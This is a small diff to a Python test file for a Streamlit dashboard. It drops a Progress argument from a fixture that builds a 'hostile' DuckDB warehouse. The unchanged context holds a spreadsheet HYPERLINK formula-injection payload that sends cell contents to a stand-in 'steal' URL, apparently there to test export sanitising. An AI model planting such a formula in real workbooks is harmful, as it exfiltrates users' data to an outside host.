@@ -20,7 +20,7 @@ from streamlit.testing.v1 import AppTest
 from dashboard import formatting, site, store
 from dashboard.exports import workbook
 from dashboard.store import Actor
-from pipelines.build import Progress, run_build
+from pipelines.build import run_build
 from tests.conftest import APP, APP_TIMEOUT, SAMPLES
 
 HYPERLINK = '=HYPERLINK("http://x.example/steal?d="&A1,"click")'
@@ -50,7 +50,7 @@ def hostile_warehouse(tmp_path_factory: pytest.TempPathFactory) -> Path:
         frame = pl.read_csv(source / name, infer_schema=False)
         frame.with_columns(pl.lit(value).alias(column)).write_csv(source / name)
     warehouse = folder / "warehouse.duckdb"
-    run_build(source, warehouse, progress=Progress(quiet=True))
+    run_build(source, warehouse)
     return warehouse
 
 
